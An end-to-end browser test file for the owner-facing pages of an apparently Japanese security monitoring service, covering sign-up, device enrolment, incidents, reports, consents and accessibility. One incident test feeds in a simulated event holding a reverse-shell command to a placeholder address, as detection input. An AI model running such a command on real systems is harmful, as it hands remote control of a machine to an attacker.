// timeout: 300
/*
 * What applicants and owners see, against the real centre: an account from the
 * mailed link by keyboard alone, home in every state, the way of an
 * application, computers as they enrol, events in plain words, reports and
 * consents; each page on a wide screen and a phone, looked at by axe.
 */
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";
import { NOT_BUILT, Office, PROGRAM, sha256 } from "../care/company.mjs";
import { Centre, event, sleep, tool } from "../wire/centre.mjs";
import { top, until } from "./world.mjs";

const skip = PROGRAM ? false : NOT_BUILT;
const TODAY = "2025-07-10T10:00:00+09:00";
const CONFIRMED = "2025-06-20T10:00:00+09:00", APPROVED = "2025-06-25T10:00:00+09:00", INSTALLED = "2025-07-01T10:00:00+09:00";
const TRIAL = { state: "trial", confirmed: CONFIRMED, approved: APPROVED, installed: INSTALLED, participation: true };
const PASSWORD = "ame-nochi-hare-4711";
const LONG = "とてもながいなまえのりようしゃさん・アレクサンドリア・フォン・ホーエンツォレルン";
const shots = join(top, "out/screenshots");
const TARGET = 44; /* pixels, of what is touched */

/** @type {Centre} */ let centre;
/** @type {Office} */ let office;
let browser, page, desk, analyst, secretariat;
const shop = {};

/* What a small shop in Tokyo writes into the form. */
const ANSWERS = {
	company_kind: "company", company_kana: "ミホンショウテン", postal_code: "1600023", prefecture: "tokyo", address: "新宿区西新宿2-8-1",
	industry: "retail", capital: "10000000", employees: "20", contact: "店主 一郎", telephone: "0312345678", mail: "owner@company.example",
	past_support: "no", subsidy: "no", privacy: "yes", conditions: "yes",
	...Object.fromEntries([..."abcdefg"].map((clause) => [`clause_${clause}`, "yes"])),
};

function answer(application, answers) {
	const rows = Object.entries(answers).map(([name, value], i) =>
		`((SELECT row FROM application WHERE id = '${application}'), ${i + 1}, '${name}', '${value}')`);
	office.sql(`INSERT INTO application_answer (application, number, name, value) VALUES ${rows.join(", ")};`);
}

async function owner(name, more, role = "owner") {
	const company = office.company(name);
	const made = more ? office.apply(company, { mail: ANSWERS.mail, ...more }) : {};
	if (more) answer(made.application, { ...ANSWERS, company: name });
	return { company, name, ...made, person: await office.person(role, { company }, "店主 一郎") };
}

/* A browser of its own for a person, signed in or not. */
async function open(person) {
	await page?.context().close();
	const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: "ja-JP", viewport: { width: 1280, height: 800 }, acceptDownloads: true });
	if (person) {
		await context.addCookies([{ name: "__Host-hikeshi", value: person.cookie, url: centre.people, secure: true, httpOnly: true, sameSite: "Strict" }]);
	}
	page = await context.newPage();
	page.setDefaultTimeout(10000);
	page.on("pageerror", (error) => { throw error; });
	return page;
}

async function go(path) {
	await page.goto(`${centre.people}${path}`);
	await page.locator("h1").first().waitFor();
}

async function axe(name) {
	await page.evaluate(readFileSync(join(top, "node_modules/axe-core/axe.min.js"), "utf8"));
	const result = await page.evaluate(() => globalThis.axe.run({ runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"] }));
	assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 120)).join(" | ")}`), [], `axe on ${name}`);
}

/* What is touched is large; links inside a sentence may be as high as the sentence. */
const smallTargets = () => page.evaluate((least) => [...document.querySelectorAll("button, a[href], summary, select, label.own-tick")]
	.filter((e) => !e.closest("p, li, td, th, dd, .skip") && !e.classList.contains("skip") && e.checkVisibility())
	.map((e) => [e.textContent.trim().slice(0, 40), e.getBoundingClientRect().height])
	.filter(([, height]) => height > 0 && height < least - 0.5), TARGET);

async function picture(name) {
	for (const [kind, viewport] of [["wide", { width: 1280, height: 800 }], ["phone", { width: 390, height: 844 }]]) {
		await page.setViewportSize(viewport);
		await sleep(150);
		const whole = kind === "wide" && (await page.getByRole("dialog").count()) === 0;
		await page.screenshot({ path: join(shots, `owner-${name}-${kind}.png`), fullPage: whole });
		const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
		assert.ok(overflow <= 0, `${name} is ${overflow} px too wide for a ${kind} screen`);
		await axe(`${name}, ${kind}`);
		assert.deepEqual(await smallTargets(), [], `${name}, ${kind}: too small to touch`);
	}
	await page.setViewportSize({ width: 1280, height: 800 });
}

const card = (heading) => page.locator("section, .card").filter({ has: page.getByRole("heading", { name: heading, exact: true }) }).last();

function invite(company, application, { mail, secret, hours = 24 }) {
	const now = Date.now() * 1000;
	office.insert("invitation", { hash: sha256(secret), mail, name: "店主 一郎", company, role: "owner", programme: office.programme,
		application, made_at: now - 48 * 3600e6, expires_at: now + hours * 3600e6 });
}

before(async () => {
	if (skip) return;
	mkdirSync(shots, { recursive: true });
	centre = new Centre({ program: PROGRAM });
	centre.sample();
	await centre.start();
	office = new Office(centre);
	office.publish();
	office.clock(`set ${TODAY}`);
	desk = await office.staff("desk", "窓口 次郎");
	analyst = await office.staff("analyst", "分析 花子");
	secretariat = await office.staff("secretariat", "事務 京子");
	shop.early = await owner("申込んだばかりの店", { state: "received" });
	shop.trial = await owner("見守り中の店", TRIAL);
	shop.over = await owner("終わった店", { state: "ended", confirmed: CONFIRMED, approved: APPROVED, installed: "2025-03-01T10:00:00+09:00", ended: "2025-06-01T10:00:00+09:00" });
	shop.none = await owner("なにもない店");
	browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu"] });
}, { timeout: 120000 });

after(async () => {
	await browser?.close();
	await centre?.done();
}, { timeout: 60000 });

test("an account from the mailed link, by keyboard alone", { skip }, async () => {
	const secret = "hki_keyboard-only-0123456789abcdef0123456789ab";
	invite(shop.trial.company, shop.trial.application, { mail: "tencho@shouten.example", secret });
	await open();
	await go(`/invitation#${secret}`);
	await page.getByRole("heading", { name: "アカウントを作る" }).waitFor();
	await page.getByText("見守り中の店さまへ").waitFor();
	await page.getByText("12文字以上").waitFor(); /* the rule before the mistake */
	await picture("invitation");
	const press = async (...keys) => { for (const key of keys) await page.keyboard.press(key); };
	const focused = () => page.evaluate(() => document.activeElement.id || document.activeElement.textContent.trim().slice(0, 40));
	const tabTo = async (wanted) => {
		for (let i = 0; i < 40; i++) {
			if ((await focused()).startsWith(wanted)) return;
			await press("Tab");
		}
		assert.fail(`the key Tab does not lead to ${wanted}`);
	};
	await tabTo("次へ");
	await press("Enter");
	await page.getByRole("alert").getByRole("link", { name: /お名前/ }).waitFor();
	/* The summary gets the focus, a frame after it is drawn. */
	await page.waitForFunction(() => document.activeElement.matches("[role=alert]") && /入力内容を確認/.test(document.activeElement.textContent), null, { timeout: 5000 });
	await tabTo("お名前");
	await press("Enter");
	assert.equal(await focused(), "name", "a mistake leads to its field");
	await page.keyboard.type("店長 さくら");
	await tabTo("password");
	await page.keyboard.type(PASSWORD);
	await press("Enter");
	await page.getByRole("heading", { name: /同意していただくこと/ }).waitFor();
	const boxes = await page.getByRole("checkbox").count();
	assert.ok(boxes > 0, "there is something to agree to");
	assert.equal(await page.getByRole("checkbox", { checked: true }).count(), 0, "nothing is agreed to beforehand");
	await tabTo("アカウントを作って始める");
	await press("Enter");
	await page.getByRole("alert").waitFor();
	await picture("invitation-consents");
	for (let i = 0; i < boxes; i++) {
		await tabTo((await page.getByRole("checkbox").nth(i).getAttribute("id")) ?? "");
		await press("Space");
	}
	await tabTo("アカウントを作って始める");
	await press("Enter");
	await page.getByRole("heading", { level: 1, name: /保護は、まだ始まっていません|問題は見つかっていません|確認している/ }).waitFor();
	assert.equal(new URL(page.url()).pathname, "/");
	assert.doesNotMatch(page.url(), /hki_/, "the secret is gone from the address");
	await open();
	await go(`/invitation#${secret}`);
	await page.getByRole("heading", { name: "このご招待は、もう使われています" }).waitFor();
	await picture("invitation-used");
	await page.getByRole("button", { name: "サインインの画面へ" }).click();
	await page.locator("#mail").fill("tencho@shouten.example");
	await page.locator("#password").fill(PASSWORD);
	await page.getByRole("button", { name: "サインイン" }).click();
	await page.locator("[data-state]").first().waitFor();
});

test("links that do not open say what to do; a second company joins the same account", { skip }, async () => {
	const over = "hki_over-0123456789abcdef0123456789abcdef0123", second = "hki_second-0123456789abcdef0123456789abcdef01";
	invite(shop.early.company, shop.early.application, { mail: "late@shouten.example", secret: over, hours: -1 });
	invite(shop.early.company, shop.early.application, { mail: "tencho@shouten.example", secret: second });
	await open();
	await go(`/invitation#${over}`);
	await page.getByRole("heading", { name: "このご招待は、期限が切れています" }).waitFor();
	for (const wrong of ["hki_nobody-knows-this-0123456789abcdef0123456", "x", ""]) {
		await page.goto("about:blank");
		await go(`/invitation#${wrong}`);
		await page.getByRole("heading", { name: "このご招待は見つかりません" }).waitFor();
	}
	await page.goto("about:blank");
	await go(`/invitation#${second}`);
	await page.getByText("アカウントは、もうあります").waitFor();
	await page.locator("#password").fill(PASSWORD);
	await page.getByRole("button", { name: "サインイン", exact: true }).click();
	await page.getByRole("button", { name: "参加する" }).waitFor();
	for (const box of await page.getByRole("checkbox").all()) {
		if ((await box.getAttribute("id"))?.startsWith("consent-")) await box.check();
	}
	await page.getByRole("button", { name: "参加する" }).click();
	await page.getByLabel("会社", { exact: true }).waitFor();
	assert.equal(await page.getByLabel("会社", { exact: true }).locator("option").count(), 2, "both companies");
	await page.getByLabel("会社", { exact: true }).selectOption({ label: "申込んだばかりの店" });
	await page.locator('[data-state="before"]').waitFor();
});

test("home says the state in one sentence, and whom to call (R-067)", { skip }, async () => {
	for (const [which, state, sentence] of [["early", "before", "保護は、まだ始まっていません"], ["trial", "before", "保護は、まだ始まっていません"], ["over", "after", "お試し期間は終わりました"]]) {
		await open(shop[which].person);
		await go("/");
		await page.locator(`[data-state="${state}"]`).waitFor();
		assert.equal(await page.locator("h1").count(), 1);
		assert.equal(await page.locator("h1").textContent(), sentence);
		await picture(`home-${which}`);
		const always = await page.locator("header .own-call").textContent();
		if (which === "trial") assert.match(always, /24時間365日/, "the desk within the trial (R-060)");
		else assert.doesNotMatch(always, /24時間/, "the office before and after it (R-067)");
	}
});

test("where am I: received, completed and confirmed are three facts (R-004, S-17)", { skip }, async () => {
	await open(shop.early.person);
	await go("/my/application");
	await page.locator('[aria-current="step"]').waitFor();
	assert.equal(await page.locator('[aria-current="step"]').getAttribute("data-state"), "received");
	const marks = card("済んだこと・まだのこと");
	assert.match(await marks.locator(".yes").first().textContent(), /受け付けた日令和7年6月2日\(月\)/);
	assert.match(await marks.locator(".no", { hasText: "参加が確定した日" }).textContent(), /まだ/);
	await picture("application");
	await open(shop.none.person);
	await go("/my/application");
	await page.getByText("お申し込みの記録はありません").waitFor();
});

test("withdrawing asks twice, and then it is done", { skip }, async () => {
	const leaving = await owner("やめる店", { state: "received" });
	await open(leaving.person);
	await go("/my/application");
	const doing = card("できること");
	await doing.getByRole("button").first().click();
	for (const area of await doing.locator("textarea").all()) await area.fill("人手が足りないため");
	await doing.locator('button[type="submit"]').click();
	const sure = page.getByRole("dialog");
	await sure.waitFor();
	assert.equal(office.sql(`SELECT state FROM application WHERE id = '${leaving.application}';`)[0][0], "received", "not yet");
	await picture("withdraw");
	await sure.locator("button.danger").click();
	await until("withdrawn", 10, () => office.sql(`SELECT state FROM application WHERE id = '${leaving.application}';`)[0][0] === "withdrawn");
	await page.locator(".good").waitFor();
});

test("a computer appears while one looks; five are the most of one person (R-054, S-36)", { skip }, async () => {
	await open(shop.trial.person);
	await go("/my/devices");
	await page.getByText("登録されたパソコンは、まだありません").waitFor();
	await picture("devices-none");
	await page.getByRole("button", { name: "使う人を追加する" }).click();
	await page.getByRole("button", { name: "次へ" }).click();
	await page.getByText("入力してください").waitFor();
	await page.getByLabel("使う人の名前").fill("店主 一郎");
	await page.getByRole("button", { name: "次へ" }).click();
	const command = await page.locator(".command").textContent();
	const found = /^sudo hikeshi-agent enrol --url (\S+) --fingerprint ([0-9a-f]{64}) --token (\S+) && sudo systemctl enable --now hikeshi-agent$/.exec(command);
	assert.ok(found, command);
	assert.equal(found[1], centre.people);
	await page.getByText("パソコンからの連絡を待っています").waitFor();
	await picture("install");
	shop.device = centre.enrol(found[3], mkdtempSync(join(centre.folder, "pc-")).split("/").pop() + "-1");
	await page.getByText(/登録できました/).waitFor();
	await picture("install-done");
	await page.getByRole("button", { name: "閉じる" }).click();
	await page.locator('.own-device[data-state="waiting"]').waitFor(); /* registered, and not heard of yet */
	office.devices(shop.trial.company, shop.trial.participation, [["満員 五郎", 5], [LONG, 2]]);
	const heard = (when) => `seen_at = ${when * 1000}`;
	office.sql(`UPDATE device SET ${heard(Date.now())} WHERE company = '${shop.trial.company}' AND seen_at IS NULL;`);
	await go("/my/devices");
	const full = page.locator(".own-user", { hasText: "満員 五郎" });
	await full.getByText("5／5台").waitFor();
	await full.getByText("1人5台までです").waitFor();
	assert.equal(await full.getByRole("button", { name: /登録する/ }).count(), 0);
	const [isolated, off, silent] = office.sql(`SELECT id FROM device WHERE company = '${shop.trial.company}' AND user_name = '満員 五郎' LIMIT 3;`).map(([id]) => id);
	office.sql(`UPDATE device SET isolated = 1 WHERE id = '${isolated}'; UPDATE device SET licence = 'off' WHERE id = '${off}';
		UPDATE device SET ${heard(Date.now() - 9 * 86400e3)} WHERE id = '${silent}';`);
	await go("/my/devices");
	for (const word of ["isolated", "off", "silent"]) await full.locator(`[data-state="${word}"]`).waitFor();
	await full.getByText("電源は切らないでください").waitFor();
	await page.locator(".own-user", { hasText: LONG }).waitFor();
	await picture("devices");
	await go("/");
	await page.locator('[data-state="act"]').waitFor();
	await page.getByText("通信を止めているパソコンがあります").waitFor();
	await picture("home-act");
	office.sql(`UPDATE device SET isolated = 0, licence = 'active', ${heard(Date.now())} WHERE company = '${shop.trial.company}';`);
});

test("before the course decision the rule is said, not a form's mistake (S-36)", { skip }, async () => {
	await open(shop.early.person);
	await go("/my/devices");
	await page.getByRole("button", { name: "使う人を追加する" }).click();
	await page.getByLabel("使う人の名前").fill("店主");
	await page.getByRole("button", { name: "次へ" }).click();
	const said = await page.getByRole("dialog").getByRole("alert").textContent();
	assert.match(said, /[぀-ヿ一-鿿]{5}/);
	assert.equal(await page.getByLabel("使う人の名前").inputValue(), "店主", "what was typed stays");
});

test("an event is told as it happens, and as it ends (R-061, R-066)", { skip }, async () => {
	await open(shop.trial.person);
	await go("/my/incidents");
	await page.getByText("気になるできごとはありません").waitFor();
	await picture("incidents-none");
	const done = await shop.device.batch([event({ Image: "/usr/bin/bash", CommandLine: 'bash -c "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"',
		ProcessGuid: "{00000001-1111-2222-3333-444444444444}", ProcessId: "44" })]);
	assert.equal(done.status, 200, done.text);
	await page.locator('[data-row][data-state="new"]').waitFor();
	await page.locator("[data-row] a").click();
	await page.getByRole("heading", { name: "していただくこと" }).waitFor();
	await page.getByText("いまは、していただくことはありません").waitFor();
	const id = page.url().split("/").pop();
	const see = () => analyst.client.ask("GET", `/v1/incidents/${id}`);
	let { incident } = await see();
	await analyst.client.ask("POST", `/v1/incidents/${id}/judgement`, { version: incident.version, real: true, reason: "外から操作しようとする動き" });
	await page.getByText("専門スタッフが、攻撃と判断しました").waitFor();
	await desk.client.ask("POST", `/v1/incidents/${id}/contacts`, { channel: "telephone", person: "店主 一郎", reached: false, text: "留守番電話", consents: [] });
	await desk.client.ask("POST", `/v1/incidents/${id}/contacts`, { channel: "telephone", person: "店主 一郎", reached: true, text: "隔離に同意", consents: ["isolate"] });
	await page.getByText("つながりませんでした").waitFor();
	await page.getByText("店主 一郎さんにお電話でご連絡しました").waitFor();
	await picture("incident-open");
	await go("/");
	await page.locator('[data-state="act"]').waitFor();
	await page.goBack();
	({ incident } = await see());
	await desk.client.ask("PUT", `/v1/incidents/${id}/story`, { version: incident.version,
		text: "レジのパソコンを、外から操作しようとする動きがありました。\n動き出す前に止めました。情報が持ち出された形跡はありません。" });
	for (const state of ["resolved", "closed"]) {
		({ incident } = await see());
		await analyst.client.ask("PUT", `/v1/incidents/${id}/state`, { state, version: incident.version });
	}
	await page.getByText("情報が持ち出された形跡はありません").waitFor();
	await page.getByText("していただくことはありません。").waitFor();
	await picture("incident");
	await page.getByRole("link", { name: "技術的な記録を見る" }).click();
	await page.getByRole("heading", { name: "タイムライン" }).waitFor();
	await go("/my/incidents");
	await page.locator('[data-row][data-state="done"]').waitFor();
	await picture("incidents");
});

test("after a day with its check, and nothing open, all is calm (R-064)", { skip }, async () => {
	await open(shop.trial.person);
	await go("/");
	await page.locator('[data-state="watch"]').getByText("きのうの点検の記録がありません").waitFor();
	await desk.client.ask("POST", "/v1/checks", { company: shop.trial.company, outcome: "calm", note: "異常なし" });
	office.clock("set 2025-07-11T09:30:00+09:00");
	await go("/");
	await page.locator('[data-state="calm"]').waitFor();
	assert.equal(await page.locator("h1").textContent(), "いま、問題は見つかっていません");
	await page.getByText("いま、していただくことはありません").waitFor();
	await page.getByText("令和7年7月10日(木)").waitFor();
	await picture("home");
});

test("another company's pages are not there", { skip }, async () => {
	const [[incident]] = office.sql(`SELECT id FROM incident WHERE company = '${shop.trial.company}' LIMIT 1;`);
	await open(shop.over.person);
	for (const path of [`/my/incidents/${incident}`, `/incidents/${incident}`, "/my/reports/019bbbbb-0000-7000-8000-00000000ffff", "/my/nothing"]) {
		await go(path);
		await page.getByRole("heading", { name: "このページは見つかりません" }).waitFor();
	}
});

test("the monthly report: figures, bars with a table, PDF, and then it is read (R-068)", { skip, timeout: 90000 }, async () => {
	await open(shop.trial.person);
	await go("/my/reports");
	await page.getByText("報告書は、まだありません").waitFor();
	await picture("reports-none");
	/* what ten days of July counted on this computer */
	const first = Date.parse("2025-07-01") / 86400e3;
	office.sql(`INSERT INTO event_day (company, device, day, events) VALUES ${Array.from({ length: 10 }, (_, i) =>
		`('${shop.trial.company}', '${shop.device.id}', ${first + i}, ${900 + ((i * 397) % 700)})`).join(", ")};`);
	await secretariat.client.ask("POST", "/v1/reports", { programme: office.programme, from: "2025-07-01", to: "2025-07-31" });
	await page.locator('[data-row][data-state="unread"]').waitFor({ timeout: 60000 });
	await picture("reports");
	await page.locator("[data-row] a").click();
	await page.locator(".own-sentence").waitFor();
	await page.getByText("表で見る").first().click();
	assert.equal(await page.locator(".own-table").first().locator("tbody tr").count(), 31, "a row for each day");
	assert.equal(await page.locator(".own-table").first().locator("tbody tr", { hasText: "7月1日(火)" }).locator("td").textContent(), "900");
	await page.getByText("表で見る").first().click();
	const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: /PDF/ }).click()]);
	assert.equal(readFileSync(await download.path()).subarray(0, 5).toString(), "%PDF-");
	await picture("report");
	await go("/my/reports");
	await page.locator('[data-row][data-state="read"]').waitFor();
});

test("consents: what, when, which version; one that is missing can be given", { skip }, async () => {
	await open(shop.trial.person);
	await go("/my/consents");
	await page.locator("[data-row]").first().waitFor();
	await picture("consents");
	const waiting = page.locator('[data-row][data-state="open"]');
	const before = await waiting.count();
	if (before > 0) {
		const first = waiting.first();
		await first.getByRole("button", { name: "同意する" }).click();
		await first.locator(".error").waitFor();
		await first.getByRole("checkbox").check();
		await first.getByRole("button", { name: "同意する" }).click();
		await until("one less waits", 10, async () => (await waiting.count()) === before - 1);
	}
	await page.getByText(/同意した日時：令和\d+年/).first().waitFor();
	await page.getByText(/^版：/).first().waitFor();
	await go("/my/more");
	await picture("more");
});

test("five items at the foot of a phone, and English by one click", { skip }, async () => {
	await open(shop.trial.person);
	await page.setViewportSize({ width: 390, height: 844 });
	await go("/");
	const items = page.getByRole("navigation").getByRole("link");
	assert.equal(await items.count(), 5);
	const box = await page.getByRole("navigation").boundingBox();
	assert.ok(box.y + box.height >= 843 && box.width === 390, JSON.stringify(box));
	for (const name of ["手続き", "パソコン", "できごと", "報告書", "ホーム"]) {
		await page.getByRole("navigation").getByRole("link", { name }).click();
		await page.locator(".own-nav a[aria-current]", { hasText: name }).waitFor();
		await page.locator("h1").first().waitFor();
	}
	await page.getByRole("link", { name: "その他" }).click();
	await page.getByRole("main").getByRole("button", { name: "English" }).click();
	await page.getByRole("heading", { name: "More" }).waitFor();
	await page.getByRole("link", { name: "Home" }).click();
	await page.locator("[data-state] h1").waitFor();
	assert.doesNotMatch(await page.locator("main section").first().textContent(), /していただく/);
});
